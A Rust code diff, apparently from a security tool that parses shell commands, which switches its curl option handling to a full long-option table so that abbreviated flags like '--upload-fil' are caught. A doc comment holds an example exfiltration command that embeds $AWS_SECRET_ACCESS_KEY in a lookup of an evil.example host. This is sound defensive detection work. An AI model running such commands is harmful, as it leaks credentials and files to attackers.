@@ -351,34 +351,9 @@ pub(super) const CURL_DATA: &[&str] = &[
     "referer",
 ];
 
-/// curl's other options that take a value.
-const CURL_OTHER_VALUES: &[&str] = &[
-    "upload-file",
-    "header",
-    "user",
-    "output",
-    "request",
-    "cookie",
-    "cookie-jar",
-    "config",
-    "max-time",
-    "proxy",
-    "write-out",
-    "url",
-    "connect-timeout",
-    "retry",
-    "cert",
-    "key",
-    "cacert",
-    "resolve",
-    "oauth2-bearer",
-    "proxy-user",
-];
-
-const CURL_VALUES: [&str; CURL_DATA.len() + CURL_OTHER_VALUES.len()] = super::joined(CURL_DATA, CURL_OTHER_VALUES);
-
-/// How curl's options take values.
-pub(super) const CURL_OPTIONS: Options = Options::gnu("dFTHuoXeKrwAbcCEmxyYzQU", &CURL_VALUES);
+/// How curl reads its options: every one of its long options, so that any beginning of only
+/// one is that option (`--upload-fil FILE`, `--data-bin @FILE`).
+pub(super) const CURL_OPTIONS: Options = crate::tools::long_options::CURL;
 
 /// A variable holding a secret by its name in an argument a program sends as text (`host
 /// $AWS_SECRET_ACCESS_KEY.evil.example`).
